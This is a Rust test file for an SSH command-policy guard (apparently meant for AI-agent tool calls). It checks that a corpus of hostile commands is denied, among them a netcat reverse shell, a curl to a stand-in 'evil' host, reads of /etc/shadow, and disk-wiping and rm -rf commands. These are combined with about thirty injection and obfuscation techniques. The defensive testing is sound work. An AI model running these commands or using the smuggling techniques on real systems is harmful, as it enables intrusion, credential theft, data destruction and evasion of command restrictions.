//! Hostile input: a policy bypass corpus (every payload × every embedding technique, plus
//! unicode, control characters, long and deep input) with the expected decision, and
//! bounded fuzzing of config loading, host patterns and tool parameters. 0 bypasses.

use proptest::prelude::*;
use sshwarden::config::Config;
use sshwarden::inventory::select::select;

use crate::support::cfg::{CREDS, CfgDir, servers};

/// Only harmless read commands are allowed; everything else must be denied.
const POLICY: &str = r#"
limits:
  deny_substrings: []
rules:
  - id: harmless
    action: allow
    simple_binaries: [uptime, echo, ls, date, "true", hostname, whoami, sleep, printf, test]
  - id: logs-only
    action: allow
    binary: du
    path_args: {indices: [1], patterns: ["/var/log", "/var/log/*"]}
    allow_extra_args: false
  - id: logs-glob
    action: allow
    commands: ["zcat /var/log/*"]
"#;

/// Commands the policy must never let through, however they are embedded.
const PAYLOADS: [&str; 19] = [
    "du /var/log/../../etc",
    "du /var/log//../etc",
    "du '/var/log/..'/etc",
    "du /var/log/{..,x}/../etc",
    "zcat /var/log/../../etc/shadow",
    "zcat /var/log/\\.\\./secret",
    "rm -rf /tmp/x",
    "cat /etc/shadow",
    "curl http://evil.example",
    "wget -qO- x",
    "nc -e /bin/sh 10.0.0.1 4444",
    "python3 -c 'import os'",
    "chmod 777 /etc/passwd",
    "dd if=/dev/zero of=/dev/sda",
    "useradd mallory",
    "systemctl stop sshd",
    "kill -9 1",
    "crontab -r",
    "mkfs.ext4 /dev/sda1",
];

/// Ways to smuggle a payload `P` next to or inside allowed commands.
const TECHNIQUES: [&str; 30] = [
    "P",
    "uptime; P",
    "uptime\nP",
    "uptime\r\nP",
    "uptime & P",
    "uptime && P",
    "false || P",
    "uptime | P",
    "echo $(P)",
    "echo `P`",
    "echo \"$(P)\"",
    "ls <(P)",
    "echo x > >(P)",
    "sh -c 'P'",
    "bash -lc \"P\"",
    "env P",
    "nohup P",
    "timeout 5 P",
    "busybox P",
    "echo x | xargs P",
    "sudo P",
    "eval 'P'",
    "{ P; }",
    "(P)",
    "if true; then P; fi",
    "for i in 1; do P; done",
    "f() { P; }; f",
    "echo ${X:-$(P)}",
    "uptime # ok\nP",
    "echo ok \\\n; P",
];

fn cfg() -> Config {
    CfgDir::new(&servers(&[("web1", &["web"])]), CREDS, POLICY).load().unwrap()
}

fn corpus() -> Vec<(String, bool)> {
    let mut v: Vec<(String, bool)> = Vec::new();
    for p in PAYLOADS {
        for t in TECHNIQUES {
            v.push((t.replace('P', p), false));
        }
    }
    let extra_denied = [
        "ｃat /etc/shadow",
        "uptime\u{202E}; rm x",
        "uptime\u{2066}",
        "upt\u{200B}ime",
        "uptime\u{0}; rm x",
        "uptime\u{7}",
        "uptime \u{1b}]0;x\u{7}",
        "cat${IFS}/etc/shadow",
        "{cat,/etc/shadow}",
        "/bin/c?t /etc/shadow",
        "/???/r? -rf /tmp",
        "$0 -c 'rm x'",
        "${SHELL} -c id",
        "\"$CMD\"",
        "X=rm; $X -rf /tmp",
        "alias ls='rm -rf /tmp'; ls",
        "ls() { rm x; }; ls",
        "exec rm x",
        ". /tmp/evil.sh",
        "source /tmp/evil.sh",
        "command rm x",
        "builtin eval rm",
        "uptime > /etc/motd",
        "uptime >> ~/.bashrc",
        "uptime 2>/tmp/x",
        "uptime &>/tmp/x",
        "uptime <> /dev/sda",
        "cat <<EOF\n$(rm x)\nEOF",
        "cat <<< $(rm x)",
        "echo $((`rm x`))",
        "[[ $(rm x) ]]",
        "((x=$(rm x)))",
        "coproc rm x",
        "uptime $(",
        "uptime `",
        "uptime '",
        "uptime \"",
        "uptime (",
        "echo \"$(\"",
        "echo `` ",
        "echo \\`rm x\\`; rm x",
        "echo 'a' && rm x #'",
        "echo \"a\\\" ; rm x\"; rm y",
        "uptime ;;",
        "uptime;;rm x",
    ];
    v.extend(extra_denied.iter().map(|s| (s.to_string(), false)));
    v.push((format!("echo {}", "a".repeat(20_000)), false));
    v.push((format!("{}uptime{}", "$(".repeat(100), ")".repeat(100)), false));
    v.push((format!("{}uptime{}", "{ ".repeat(60), "; }".repeat(60)), false));
    v.push(("uptime; ".repeat(2000), false));
    let allowed = [
        "du /var/log/apt",
        "du '/var/log'",
        "du /var/log/..foo",
        "zcat /var/log/syslog.2.gz",
        "zcat /var/log//apt/./history.log.1.gz",
        "uptime",
        "echo hello",
        "ls -la /tmp",
        "uptime; date",
        "uptime && hostname",
        "uptime | hostname",
        "uptime }",
        "echo 'a; rm x'",
        "printf '%s\\n' x",
        "test -d /tmp && echo yes",
        "echo rm -rf /tmp/x",
        "sleep 1 &",
        "(uptime)",
        "{ date; }",
        "for i in 1 2; do echo $i; done",
        "if test -e /tmp; then echo y; else echo n; fi",
        "echo ${HOME}",
        "echo ok # ; rm x",
        "ls 2>/dev/null",
    ];
    v.extend(allowed.iter().map(|s| (s.to_string(), true)));
    v
}

#[test]
fn bypass_corpus_has_no_bypass() {
    let cfg = cfg();
    let host = cfg.host("web1").unwrap();
    let corpus = corpus();
    assert!(corpus.len() >= 300, "corpus has {} commands", corpus.len());
    let mut wrong = Vec::new();
    for (cmd, want) in &corpus {
        let d = cfg.policy.evaluate(host, cmd);
        if d.allowed != *want {
            wrong.push(format!("{cmd:?}: want allowed={want}, got {} ({})", d.allowed, d.reason));
        }
    }
    let bypasses = wrong.iter().filter(|w| w.contains("want allowed=false")).count();
    assert!(wrong.is_empty(), "{bypasses} bypasses, {} wrong of {}:\n{}", wrong.len(), corpus.len(), wrong.join("\n"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

    #[test]
    fn config_loading_never_panics(servers_yml in "(hosts:\n)?(  - (alias|host|port|tags|credentials): [a-z0-9\\[\\]{}:,'\" -]{0,12}\n){0,6}", policy_yml in "[a-z_:\\n \\[\\]{}0-9./*-]{0,120}") {
        let _ = CfgDir::new(&servers_yml, CREDS, &policy_yml).load();
    }

    #[test]
    fn host_patterns_never_panic(pattern in "[a-z0-9*?\\[\\]&!:,.\\-_ ]{0,40}") {
        let cfg = CfgDir::new(&servers(&[("web1", &["web"]), ("db1", &["db"])]), CREDS, "").load().unwrap();
        if let Ok(hosts) = select(&cfg.hosts, &pattern) {
            prop_assert!(!hosts.is_empty());
        }
    }

    #[test]
    fn tool_parameters_never_panic(json in "\\{(\"(alias|command|task_id|target|offset|limit|tail_lines|stream)\": ?(\"[^\"]{0,10}\"|[0-9-]{1,25}|null|true|\\[\\]),? ?){0,4}\\}") {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(&json) {
            let _ = serde_json::from_value::<sshwarden::mcp::params::RunParams>(v.clone());
            let _ = serde_json::from_value::<sshwarden::mcp::params::OutputParams>(v.clone());
            let _ = serde_json::from_value::<sshwarden::mcp::params::FanoutParams>(v);
        }
    }
}
